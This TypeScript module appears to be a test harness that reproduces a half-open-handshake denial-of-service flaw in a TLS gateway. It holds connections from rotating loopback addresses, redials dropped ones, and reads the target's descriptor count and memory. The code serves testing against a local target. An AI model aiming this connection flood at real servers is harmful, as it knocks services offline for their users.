import { readdir, readFile } from 'node:fs/promises'
import { connect } from 'node:net'
import type { Socket } from 'node:net'

/** What each of them does, once it is connected. */
export type Silence = 'says nothing' | 'says half a hello' | 'says hello and no more'

export interface HalfOpen {
  /** Connections that the gateway still holds. */
  held(): number
  /** Attempts so far, those that were closed and dialled again too. */
  attempts(): number
  stop(): Promise<void>
}

/**
 * Holds connections open without ever finishing a handshake, from as many addresses of this machine's own network as a bound for one of them would need;
 * who is thrown out comes back, so many a second (Boundary CVE-2026-7776; CWE-400, CWE-770).
 */
export async function holdHalfOpen(options: {
  readonly port: number
  readonly count: number
  readonly silence: Silence
  /** A whole ClientHello. */
  readonly hello: Buffer
  readonly comeBackPerSecond: number
}): Promise<HalfOpen> {
  const { port, count, silence, hello, comeBackPerSecond } = options
  const words = silence === 'says nothing' ? null : silence === 'says half a hello' ? hello.subarray(0, hello.length >> 1) : hello
  const open = new Set<Socket>()
  let attempts = 0
  const dial = (): Promise<void> => {
    // 127.0.1.1 to 127.0.1.250: each is somebody else to the gateway.
    const localAddress = `127.0.1.${1 + (attempts % 250)}`
    attempts += 1
    const socket = connect({ host: '127.0.0.1', port, localAddress })
    open.add(socket)
    socket.on('error', () => {}).resume()
    socket.once('close', () => open.delete(socket))
    if (words !== null) socket.once('connect', () => socket.write(words))
    return new Promise((resolve) => void socket.once('connect', resolve).once('close', resolve))
  }
  // No more at once than the kernel queues for a listener.
  for (let left = count; left > 0; left -= 200) await Promise.all(Array.from({ length: Math.min(left, 200) }, dial))
  const everyMs = 20
  const again = setInterval(() => {
    const missing = Math.min(count - open.size, Math.ceil((comeBackPerSecond * everyMs) / 1_000))
    for (let n = 0; n < missing; n += 1) void dial()
  }, everyMs)
  return {
    held: () => open.size,
    attempts: () => attempts,
    async stop() {
      clearInterval(again)
      await Promise.all([...open].map((socket) => new Promise((resolve) => socket.once('close', resolve).destroy())))
    },
  }
}

export const descriptorsOf = async (pid: number): Promise<number> => (await readdir(`/proc/${pid}/fd`)).length

export async function residentMiB(pid: number): Promise<number> {
  return Number(/VmRSS:\s+(\d+)/.exec(await readFile(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1024
}
